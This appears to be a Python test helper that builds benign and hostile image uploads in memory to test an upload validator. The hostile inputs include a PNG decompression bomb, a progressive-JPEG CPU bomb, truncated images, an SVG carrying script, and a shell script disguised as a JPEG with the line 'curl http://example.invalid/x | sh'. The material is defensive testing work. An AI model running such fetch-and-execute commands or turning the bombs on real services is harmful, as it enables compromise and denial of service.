"""Bytes of good and hostile uploads, made on the fly (no fixtures on disk)."""

from __future__ import annotations

import io
import struct
import zlib

import numpy as np
from PIL import Image

from tests.recommendations.photos import garment_photo


def encoded(image: Image.Image, fmt: str, **options) -> bytes:
    buffer = io.BytesIO()
    image.save(buffer, format=fmt, **options)
    return buffer.getvalue()


def jpeg_photo(size: tuple[int, int] = (120, 160)) -> bytes:
    return encoded(garment_photo(3, "Red").resize(size), "JPEG", quality=90)


def _png_chunk(kind: bytes, data: bytes) -> bytes:
    return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))


def png_header_only(width: int, height: int) -> bytes:
    """A PNG that declares width x height but carries one tiny compressed row: a decompression bomb."""
    chunk = _png_chunk
    header = struct.pack(">IIBBBBB", width, height, 8, 0, 0, 0, 0)
    return (
        b"\x89PNG\r\n\x1a\n"
        + chunk(b"IHDR", header)
        + chunk(b"IDAT", zlib.compress(b"\x00" * 64))
        + chunk(b"IEND", b"")
    )


ADAM7 = ((0, 0, 8, 8), (4, 0, 8, 8), (0, 4, 4, 8), (2, 0, 4, 4), (0, 2, 2, 4), (1, 0, 2, 2), (0, 1, 1, 2))


def png_with_short_data(width: int, height: int, *, interlaced: bool = False, share: float = 1.0) -> bytes:
    """An 8-bit RGB PNG whose zlib stream is well-formed but holds only the first `share` of the
    filtered rows its header declares (share=1: a complete, valid PNG). Built by hand: Pillow
    writes neither short nor interlaced PNGs."""
    passes = [(x, y, dx, dy) for x, y, dx, dy in ADAM7] if interlaced else [(0, 0, 1, 1)]
    raw = bytearray()
    for x0, y0, dx, dy in passes:
        columns = len(range(x0, width, dx))
        for y in range(y0, height, dy):
            if columns:
                raw += b"\x00" + bytes((3 * column + y) % 256 for column in range(3 * columns))
    header = struct.pack(">IIBBBBB", width, height, 8, 2, 0, 0, 1 if interlaced else 0)
    return (
        b"\x89PNG\r\n\x1a\n"
        + _png_chunk(b"IHDR", header)
        + _png_chunk(b"IDAT", zlib.compress(bytes(raw[: int(len(raw) * share)])))
        + _png_chunk(b"IEND", b"")
    )


def animated(fmt: str) -> bytes:
    frames = [garment_photo(0, "Red"), garment_photo(0, "Blue")]
    return encoded(frames[0], fmt, save_all=True, append_images=frames[1:], duration=100, loop=0)


def jpeg_with_orientation(orientation: int) -> bytes:
    """A wide (200x100) photo whose EXIF says how to turn it upright."""
    exif = Image.Exif()
    exif[0x0112] = orientation
    return encoded(Image.new("RGB", (200, 100), (200, 30, 30)), "JPEG", exif=exif.tobytes())


def turned_photo(orientation: int, size: tuple[int, int] = (300, 150), fmt: str = "JPEG") -> bytes:
    """A white photo stored `size` with its stored top left third red, and an EXIF orientation
    that says how to turn it upright, as phones save them (6: turned a quarter to the right)."""
    photo = Image.new("RGB", size, "white")
    photo.paste((200, 30, 30), (0, 0, size[0] // 3, size[1] // 3))
    exif = Image.Exif()
    exif[0x0112] = orientation
    return encoded(photo, fmt, exif=exif.tobytes())


def red_corners(image: Image.Image) -> list[bool]:
    """Which corners (top left, top right, bottom left, bottom right) are red."""
    green = np.asarray(image.convert("RGB"))[:, :, 1]
    top, left, bottom, right = (
        green.shape[0] // 10,
        green.shape[1] // 10,
        -green.shape[0] // 10,
        -green.shape[1] // 10,
    )
    return [bool(green[y, x] < 100) for y, x in ((top, left), (top, right), (bottom, left), (bottom, right))]


def cut_out_photo(mode: str = "RGBA") -> Image.Image:
    """A red square on a transparent background whose hidden colour is black, as editors save a
    product cut-out: in RGBA, or (mode "P") a palette whose entry 0 is transparent black."""
    photo = Image.new("RGBA", (200, 200), (0, 0, 0, 0))
    photo.paste((200, 30, 30, 255), (50, 50, 150, 150))
    if mode == "P":
        palette = Image.new("P", photo.size, 0)
        palette.putpalette([0, 0, 0, 200, 30, 30])
        palette.paste(1, (50, 50, 150, 150))
        palette.info["transparency"] = 0
        return palette
    return photo


def sixteen_bit_grey_png(level: int) -> bytes:
    """A 16-bit greyscale PNG (as scanners and raw converters save them) of one `level`, 0-65535."""
    image = Image.fromarray(np.full((100, 150), level, np.uint16))
    assert image.mode == "I;16"
    return encoded(image, "PNG")


def jpeg_with_scans(extra_scans: int, size: tuple[int, int] = (256, 256)) -> bytes:
    """A progressive JPEG whose last scan is repeated extra_scans times: a CPU bomb, since libjpeg
    decodes the whole image again for each scan (a repeated refinement scan is only a warning)."""
    data = encoded(Image.new("RGB", size, (128, 60, 30)), "JPEG", progressive=True, quality=50)
    last_scan = data.rindex(b"\xff\xda")
    end_of_image = len(data) - 2
    return data[:end_of_image] + data[last_scan:end_of_image] * extra_scans + data[end_of_image:]


def cut_short_and_closed(data: bytes, share: float = 0.6) -> bytes:
    """A JPEG cut after `share` of its bytes and given its end-of-image marker again, as apps
    "repair" a photo whose upload or copy stopped part way: it decodes without an error, the
    blocks after the cut grey."""
    return data[: int(len(data) * share)] + b"\xff\xd9"


SVG_NAMED_JPG = (
    b'<?xml version="1.0"?><svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>'
)
SCRIPT_NAMED_JPG = b"#!/bin/sh\ncurl http://example.invalid/x | sh\n"
